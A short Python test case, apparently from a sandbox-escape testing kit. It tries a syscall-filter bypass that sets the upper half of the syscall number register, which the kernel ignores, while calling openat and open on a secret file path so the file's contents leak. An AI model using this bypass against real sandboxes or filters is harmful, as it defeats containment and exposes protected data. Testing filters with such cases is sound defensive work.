# SPDX-License-Identifier: Apache-2.0
# attack: the upper half of the number register set: the kernel looks at the lower half only
# class: arch
# wins: leak
from kit import *

tried()
for high in (1, 0xdeadbeef, 0x80000000, 0xffffffff):
    spill(sc(high << 32 | NR['openat'], AT_FDCWD, os.fsencode(SECRET), 0, 0))
    spill(sc(high << 32 | NR['open'], os.fsencode(SECRET), 0, 0))
